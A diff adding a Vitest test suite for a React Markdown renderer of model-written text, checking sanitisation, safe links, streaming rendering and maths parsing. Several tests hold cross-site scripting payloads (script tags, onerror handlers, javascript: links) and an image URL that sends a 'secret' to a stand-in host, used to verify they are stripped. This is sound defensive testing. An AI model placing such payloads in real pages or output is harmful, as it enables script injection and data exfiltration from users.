@@ -1,0 +1,135 @@
+import { act } from "react";
+import { createRoot, type Root } from "react-dom/client";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { oneKindOfMaths, splitBlocks } from "./blocks";
+import { Markdown } from "./markdown";
+
+let place: HTMLElement;
+let root: Root;
+beforeEach(() => {
+  vi.stubGlobal("IS_REACT_ACT_ENVIRONMENT", true);
+  place = document.body.appendChild(document.createElement("div"));
+  root = createRoot(place);
+});
+afterEach(async () => {
+  await act(async () => root.unmount());
+  place.remove();
+});
+
+async function show(text: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) {
+  await act(async () => root.render(<Markdown text={text} {...props} />));
+  return place;
+}
+
+describe("a model's text", () => {
+  it("never brings scripts, handlers or raw HTML into the page", async () => {
+    const page = await show(
+      [
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
+        "<iframe src='https://evil.example'></iframe>",
+        "<style>body{display:none}</style>",
+        "<svg><script>alert(1)</script></svg>",
+      ].join("\n\n"),
+    );
+    expect(page.querySelector("script, img, iframe, style, svg, [onerror], [onclick]")).toBeNull();
+  });
+
+  it("never links to a script", async () => {
+    const page = await show(
+      "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x) <javascript:alert(1)>",
+    );
+    for (const link of page.querySelectorAll("a")) {
+      expect(link.getAttribute("href") ?? "").not.toMatch(/^\s*(javascript|data|vbscript):/i);
+    }
+  });
+
+  it("opens links apart and tells them nothing", async () => {
+    const link = (await show("[a](https://example.org)")).querySelector("a");
+    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(link?.getAttribute("target")).toBe("_blank");
+  });
+
+  it("turns images into links, so that nothing is fetched by itself", async () => {
+    const page = await show("![a cat](https://evil.example/?q=secret)");
+    expect(page.querySelector("img")).toBeNull();
+    expect(page.textContent).toContain("Image: a cat");
+  });
+
+  it("keeps tables, with a box that scrolls", async () => {
+    const page = await show("| a | b |\n|---|---|\n| 1 | 2 |");
+    expect(page.querySelector("[role=group] table td")?.textContent).toBe("1");
+  });
+
+  it("begins its headings below the page's own", async () => {
+    const page = await show("# One\n\n## Two\n\n### Three");
+    expect(page.querySelector("h1, h2, h3, h4")).toBeNull();
+    expect(page.querySelectorAll("h5, h6")).toHaveLength(3);
+  });
+
+  it("puts names in the place of labels, outside code", async () => {
+    const names = { "Response A": "Basil" };
+    const page = await show("Response A beats Response B. `Response A`", { names });
+    expect(page.querySelector("strong")?.textContent).toBe("Basil");
+    expect(page.textContent).toContain("beats Response B");
+    expect(page.querySelector("code")?.textContent).toBe("Response A");
+  });
+});
+
+describe("a text that is still being written", () => {
+  it("shows an unclosed fence as code at once", async () => {
+    const page = await show("Look:\n\n```rust\nfn main() {", { streaming: true });
+    expect(page.querySelector("pre code")?.textContent).toBe("fn main() {");
+  });
+
+  it("shows unclosed marks as they will be", async () => {
+    const page = await show("This is **bol", { streaming: true });
+    expect(page.querySelector("strong")?.textContent).toBe("bol");
+    expect(page.textContent).not.toContain("*");
+  });
+
+  it("leaves finished blocks as they are while the last one grows", async () => {
+    const start = "# Head\n\nFirst paragraph.\n\n- one\n- two\n\nLast";
+    const page = await show(start, { streaming: true });
+    const before = [...page.querySelectorAll(".markdown > *")];
+    const texts: string[] = [];
+    const watch = new MutationObserver((changes) => {
+      for (const { target } of changes) texts.push(target.textContent ?? "");
+    });
+    watch.observe(page, { subtree: true, childList: true, characterData: true });
+    await show(`${start} words`, { streaming: true });
+    watch.takeRecords();
+    watch.disconnect();
+    const after = [...page.querySelectorAll(".markdown > *")];
+    expect(after).toHaveLength(before.length);
+    for (const [at, element] of before.slice(0, -1).entries()) expect(after[at]).toBe(element);
+    expect(texts.every((text) => text.includes("Last"))).toBe(true);
+    expect(after.at(-1)?.textContent).toBe("Last words");
+  });
+});
+
+describe("blocks", () => {
+  it("split a long text, and together are the text", () => {
+    const text = "# A\n\nb\n\n```js\n1\n\n2\n```\n\n- c\n- d\n\n> e\n";
+    const blocks = splitBlocks(text, false);
+    expect(blocks.length).toBeGreaterThan(4);
+    expect(blocks.join("\n").replace(/\n+/g, "\n").trim()).toBe(text.replace(/\n+/g, "\n").trim());
+  });
+
+  it("keep link definitions with the blocks that use them", async () => {
+    const page = await show("See [the site][s].\n\nMore.\n\n[s]: https://example.org");
+    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://example.org");
+  });
+});
+
+describe("maths", () => {
+  it("is read in all the ways models write it", () => {
+    expect(oneKindOfMaths("\\(x^2\\) and $a_1$")).toBe("$$x^2$$ and $$a_1$$");
+    expect(oneKindOfMaths("\\[ x \\]").trim()).toBe("$$\nx\n$$");
+  });
+  it("is not seen in prices or code", () => {
+    const text = "It costs $5 to $10, see `$x^2$`.\n```sh\necho $A_B$C_D\n```";
+    expect(oneKindOfMaths(text)).toBe(text);
+  });
+});
